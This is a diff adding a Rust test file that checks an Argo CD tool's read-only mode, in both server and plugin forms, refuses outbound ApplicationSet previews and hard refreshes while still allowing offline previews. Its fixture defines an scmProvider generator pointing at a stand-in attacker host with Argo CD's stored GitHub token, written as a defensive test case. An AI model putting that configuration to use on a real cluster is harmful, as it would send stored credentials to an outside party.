@@ -1,0 +1,123 @@
+//! Read-only mode runs nothing that reaches outside Argo CD's own state: a preview with a
+//! generator that calls out, and a hard refresh, are refused before anything is sent; what only
+//! reads Argo CD's objects still works. Through both components.
+
+use host_test::embed::HostEnv;
+use host_test::standin::{Config, StandIn};
+use serde_json::{Value, json};
+
+use crate::{World, harness};
+
+/// An scmProvider generator pointed at an attacker's API with the token Argo CD stores.
+fn calling_out() -> Value {
+    json!({"metadata": {"name": "probe"}, "spec": {
+        "generators": [{"matrix": {"generators": [
+            {"clusters": {}},
+            {"scmProvider": {"github": {"organization": "org", "api": "https://attacker.example.com", "tokenRef": {"secretName": "github-token", "key": "token"}}}}
+        ]}}],
+        "template": {"metadata": {"name": "{{repository}}"}, "spec": {"project": "default", "source": {"repoURL": "{{url}}", "path": "."}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"}}}
+    }})
+}
+
+fn offline() -> Value {
+    json!({"metadata": {"name": "probe"}, "spec": {
+        "generators": [{"list": {"elements": [{"env": "dev"}, {"env": "prod"}]}}],
+        "template": {"metadata": {"name": "web-{{env}}"}, "spec": {"project": "default", "source": {"repoURL": "https://git.example.com/web.git", "path": "envs/{{env}}"}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "web-{{env}}"}}}
+    }})
+}
+
+fn nothing_sent(standin: &StandIn) {
+    let sent: Vec<String> = standin
+        .requests()
+        .into_iter()
+        .map(|r| r.path)
+        .filter(|p| p.contains("/applicationsets/generate") || p.contains("refresh=hard"))
+        .collect();
+    assert!(sent.is_empty(), "read-only sent {sent:?}");
+}
+
+fn says_why(error: &str, named: &str) {
+    assert!(
+        error.contains("read-only") && error.contains(named),
+        "{error}"
+    );
+}
+
+#[tokio::test]
+async fn read_only_refuses_what_calls_out_server() {
+    let world = World::with(
+        Config::default(),
+        &[
+            ("argocd_username", "admin"),
+            ("argocd_password", crate::PASSWORD),
+            ("read_only", "true"),
+        ],
+    )
+    .await;
+    let refused = world
+        .tool_error(
+            "preview_argocd_applicationset",
+            json!({"applicationset": calling_out()}),
+        )
+        .await;
+    says_why(&refused, "scmProvider");
+    let hard = world
+        .tool_error(
+            "refresh_argocd_app",
+            json!({"app_name": "guestbook", "hard": true}),
+        )
+        .await;
+    says_why(&hard, "hard refresh");
+    nothing_sent(&world.standin);
+    let preview = world
+        .ok(
+            "preview_argocd_applicationset",
+            json!({"applicationset": offline()}),
+        )
+        .await;
+    assert_eq!(preview["count"], 2);
+    world
+        .ok("refresh_argocd_app", json!({"app_name": "guestbook"}))
+        .await;
+}
+
+#[tokio::test]
+async fn read_only_refuses_what_calls_out_plugin() {
+    let standin = StandIn::start(Config::default()).await.unwrap();
+    let env = HostEnv {
+        env: vec![
+            ("ARGOCD_URL".into(), "https://argocd.example.com".into()),
+            ("ARGOCD_TOKEN".into(), standin.api_token("admin", None)),
+            ("ARGOCD_READ_ONLY".into(), "true".into()),
+        ],
+        redirect: Some(standin.addr),
+        ..HostEnv::default()
+    };
+    let (p, mut s) = harness().plugin(&env).await.unwrap();
+    let refused = p
+        .call_preview_argocd_applicationset(&mut s, &calling_out().to_string(), None)
+        .await
+        .unwrap()
+        .unwrap_err();
+    says_why(&refused, "scmProvider");
+    let (p, mut s) = harness().plugin(&env).await.unwrap();
+    let hard = p
+        .call_refresh_argocd_app(&mut s, "guestbook", Some(true), None, None)
+        .await
+        .unwrap()
+        .unwrap_err();
+    says_why(&hard, "hard refresh");
+    nothing_sent(&standin);
+    let (p, mut s) = harness().plugin(&env).await.unwrap();
+    let preview = p
+        .call_preview_argocd_applicationset(&mut s, &offline().to_string(), None)
+        .await
+        .unwrap()
+        .expect("a list generator previews");
+    assert_eq!(serde_json::from_str::<Value>(&preview).unwrap()["count"], 2);
+    let (p, mut s) = harness().plugin(&env).await.unwrap();
+    p.call_refresh_argocd_app(&mut s, "guestbook", None, None, None)
+        .await
+        .unwrap()
+        .expect("a normal refresh");
+}
